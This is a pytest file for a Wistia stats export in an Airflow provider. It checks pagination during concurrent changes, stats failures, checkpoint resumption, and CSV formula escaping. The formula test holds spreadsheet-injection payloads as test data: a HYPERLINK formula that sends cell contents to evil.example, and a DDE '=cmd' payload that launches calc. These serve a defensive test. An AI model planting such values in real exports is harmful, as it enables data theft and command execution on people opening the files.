"""Issue 10: the stats export stays exactly right on a live account.

A media deleted and another added between two list pages, a media whose stats always answer
500, a checkpoint from another day, and media names that are spreadsheet formulas: each is
reproduced against the emulator, and the file and the emulator's state are checked afterwards.
"""

from __future__ import annotations

import csv
import json
import logging
from collections import Counter
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import wistia_test_live_account as dags
from conftest import task_states, xcom
from test_live_account import change_after_first_list_page

from airflow_provider_wistia.emulator import WistiaEmulator
from airflow_provider_wistia.emulator.common import RecordedRequest
from airflow_provider_wistia.exceptions import WistiaConfigError
from airflow_provider_wistia.exports.stats import export_stats
from airflow_provider_wistia.hooks.wistia import WistiaHook


def _jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _stats_calls(emulator: WistiaEmulator, hid: str) -> list[int]:
    return [r.status for r in emulator.requests if r.path == f"/v1/medias/{hid}/stats.json"]


def test_export_while_medias_are_deleted_and_added_during_the_export(
    hook: WistiaHook, emulator: WistiaEmulator, tmp_path: Path
) -> None:
    """Right after page 1 of the listing is served (before the export has it), a video of
    page 1 is deleted and a media is added. With page numbers, the first media of page 2
    would shift onto page 1 and silently be missing from the file. Another video is deleted
    just after its stats were read: it is left out too (the export lists once more at its end)."""
    ids = emulator.seed_medias(150)
    deleted, deleted_after_stats, added = ids[3], ids[120], []

    def change() -> None:
        emulator.store.delete_media(deleted)
        added.append(emulator.create_media("uploaded meanwhile.mp4")["hashed_id"])

    def delete_after_stats(request: RecordedRequest) -> None:
        if request.path == f"/v1/medias/{deleted_after_stats}/stats.json" and request.status == 200:
            emulator.store.delete_media(deleted_after_stats)  # its stats answer is on its way

    change_after_first_list_page(emulator, change)
    emulator.request_observers.append(delete_after_stats)
    destination = tmp_path / "stats.jsonl"
    result = export_stats(hook, str(destination), file_format="jsonl", max_workers=4)

    rows = _jsonl(destination)
    counts = Counter(r["hashed_id"] for r in rows)
    gone = {deleted, deleted_after_stats}
    lasting = set(ids) - gone
    assert lasting <= set(counts) and set(counts.values()) == {1}  # every lasting media, exactly once
    assert not gone & set(counts)  # deleted during the export: left out...
    assert result["deleted_during_export"] == 2  # ...and counted
    assert set(counts) - lasting == set(added)  # the media added meanwhile is listed on page 2
    assert result["rows"] == len(rows) == 149 and result["stats_errors"] == []
    # The emulator's state: both are gone; one's stats answered 404, the other's 200.
    assert all(emulator.get_media(hid) is None for hid in gone)
    assert _stats_calls(emulator, deleted) == [404] and _stats_calls(emulator, deleted_after_stats) == [200]
    first_of_page_2 = next(r for r in rows if r["hashed_id"] == ids[100])  # the one page numbers lose
    assert first_of_page_2["plays"] == emulator.store.medias[ids[100]].stats()["plays"]
    # account, 2 cursor pages, 151 stats (150 seeded + 1 added), 2 pages again at the end
    assert result["requests"] == 1 + 2 + 151 + 2


def test_a_media_whose_stats_always_fail_is_skipped_or_fails_the_export(
    run_dag, emulator: WistiaEmulator, set_connection, tmp_path: Path
) -> None:
    set_connection(max_retries=2)
    ids = emulator.seed_medias(30)
    bad = ids[7]
    emulator.add_fault("status", path=f"^/v1/medias/{bad}/stats", status=500, times=1000)
    conf = {"skip": str(tmp_path / "skip.jsonl"), "fail": str(tmp_path / "fail.csv")}

    dr = run_dag(dags.export_dag, conf)

    assert task_states(dr) == {"export_skip": "success", "export_fail": "failed"}
    result = xcom(dr, "export_skip")
    assert [e["hashed_id"] for e in result["stats_errors"]] == [bad]
    assert "HTTP 500" in result["stats_errors"][0]["error"] and result["rows"] == 30
    rows = {r["hashed_id"]: r for r in _jsonl(tmp_path / "skip.jsonl")}
    assert set(rows) == set(ids)
    assert rows[bad]["plays"] is None and rows[bad]["name"] == emulator.get_media(bad)["name"]
    assert all(rows[h]["plays"] is not None for h in ids if h != bad)
    # Each export tried the bad media's stats 1 + max_retries times; "fail" left no file but a
    # checkpoint, so its retry resumes there.
    assert _stats_calls(emulator, bad) == [500] * 6
    assert not (tmp_path / "fail.csv").exists() and (tmp_path / "fail.csv.partial").is_dir()
    assert not (tmp_path / "skip.jsonl.partial").exists()


def test_a_resume_tries_the_failed_stats_once_more(
    hook: WistiaHook, emulator: WistiaEmulator, tmp_path
) -> None:
    ids = emulator.seed_medias(4)
    destination = tmp_path / "stats.jsonl"
    partial = tmp_path / "stats.jsonl.partial"
    _write_checkpoint(
        partial,
        [
            {"row": {"hashed_id": ids[0], "plays": 7}, "non_video": False},
            {"row": {"hashed_id": ids[1], "plays": None}, "non_video": False, "stats_error": "HTTP 500"},
        ],
    )
    result = export_stats(hook, str(destination), file_format="jsonl", on_stats_error="skip")
    rows = {r["hashed_id"]: r for r in _jsonl(destination)}
    assert set(rows) == set(ids) and rows[ids[0]]["plays"] == 7  # resumed as it was
    assert rows[ids[1]]["plays"] == emulator.store.medias[ids[1]].stats()["plays"]  # fetched this time
    assert result["stats_errors"] == [] and result["rows"] == 4
    assert _stats_calls(emulator, ids[0]) == [] and _stats_calls(emulator, ids[1]) == [200]


def _write_checkpoint(partial: Path, records: list[dict[str, Any]], age: timedelta = timedelta(0)) -> None:
    partial.mkdir()
    started = (datetime.now(timezone.utc) - age).isoformat(timespec="seconds")
    manifest = {"version": 1, "destination": "x", "scope": {"project_id": None}, "started": started}
    (partial / "checkpoint.json").write_text(json.dumps(manifest))
    (partial / "part-000001.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))


def test_a_stale_checkpoint_is_discarded(
    hook: WistiaHook, emulator: WistiaEmulator, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="airflow_provider_wistia")
    ids = emulator.seed_medias(3)
    destination = tmp_path / "stats.jsonl"
    partial = tmp_path / "stats.jsonl.partial"
    yesterday = [{"row": {"hashed_id": ids[0], "plays": -1}, "non_video": False}]

    _write_checkpoint(partial, yesterday, age=timedelta(hours=25))
    export_stats(hook, str(destination), file_format="jsonl")
    rows = {r["hashed_id"]: r for r in _jsonl(destination)}
    assert set(rows) == set(ids) and rows[ids[0]]["plays"] != -1  # fetched again, not mixed in
    assert _stats_calls(emulator, ids[0]) == [200] and not partial.exists()
    assert any("max_checkpoint_age=1 day, 0:00:00" in r.getMessage() for r in caplog.records)

    # The same checkpoint is resumed when the limit allows its age.
    _write_checkpoint(partial, yesterday, age=timedelta(hours=25))
    export_stats(hook, str(destination), file_format="jsonl", max_checkpoint_age=timedelta(days=2))
    assert {r["hashed_id"]: r for r in _jsonl(destination)}[ids[0]]["plays"] == -1
    assert _stats_calls(emulator, ids[0]) == [200]  # not fetched again

    with pytest.raises(WistiaConfigError, match="max_checkpoint_age"):
        export_stats(hook, str(destination), max_checkpoint_age=24)
    with pytest.raises(WistiaConfigError, match="on_stats_error"):
        export_stats(hook, str(destination), on_stats_error="ignore")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturned",
]


def test_csv_cells_that_are_formulas_are_escaped_and_jsonl_is_unchanged(
    hook: WistiaHook, emulator: WistiaEmulator, tmp_path: Path
) -> None:
    pid = emulator.create_project("=cmd|' /C calc'!A0")["hashedId"]
    names = [*FORMULAS, "Plain name"]
    medias = [emulator.create_media(name, project_id=pid, media_type="Video")["hashed_id"] for name in names]
    csv_path, jsonl_path = tmp_path / "stats.csv", tmp_path / "stats.jsonl"
    export_stats(hook, str(csv_path), fields="hashed_id,name,plays")
    export_stats(hook, str(jsonl_path), file_format="jsonl", fields="hashed_id,name,plays")

    with csv_path.open(newline="", encoding="utf-8") as handle:
        cells = {row["hashed_id"]: row for row in csv.DictReader(handle)}
    assert [cells[h]["name"] for h in medias] == ["'" + name for name in FORMULAS] + ["Plain name"]
    assert all(int(cells[h]["plays"]) >= 0 for h in medias)  # numbers are left alone
    records = {r["hashed_id"]: r for r in _jsonl(jsonl_path)}
    assert [records[h]["name"] for h in medias] == [*FORMULAS, "Plain name"]
    assert [m["name"] for m in emulator.list_medias(pid)] == [*FORMULAS, "Plain name"]
